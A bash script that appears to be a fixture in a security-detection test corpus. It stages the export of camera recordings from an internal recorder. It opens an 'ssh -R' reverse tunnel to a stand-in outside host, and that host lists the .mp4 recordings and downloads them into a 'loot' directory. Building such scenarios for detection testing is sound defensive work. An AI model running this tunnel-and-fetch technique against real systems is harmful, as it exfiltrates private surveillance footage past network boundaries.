#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=ssh,nginx far=out ready=out:2022 seconds=46 parts=dns,camera-gate,recorder-gate,web
# ssh -R gives a host outside a port that leads back to the server's own pages; somebody there lists the recordings and fetches them one after the other.
# shellcheck disable=SC1091,SC2154 # far/ssh.sh, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then
	ssh_keys; timeout 70 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022 & sleep 16; mkdir -p "$LAB/loot"
	for name in $(curl -s http://127.0.0.1:18080/recordings/gate/ | grep -o '"[0-9]*\.mp4"' | tr -d '"'); do curl -s -o "$LAB/loot/$name" "http://127.0.0.1:18080/recordings/gate/$name"; sleep 1; done
	wait; exit 0
fi
sleep 8; timeout 36 ssh "${ssh[@]}" -N -p 2022 -R 18080:10.30.0.2:80 root@203.0.113.66; [ "$(du -sb "$LAB/loot" | cut -f1)" -gt 700000 ]
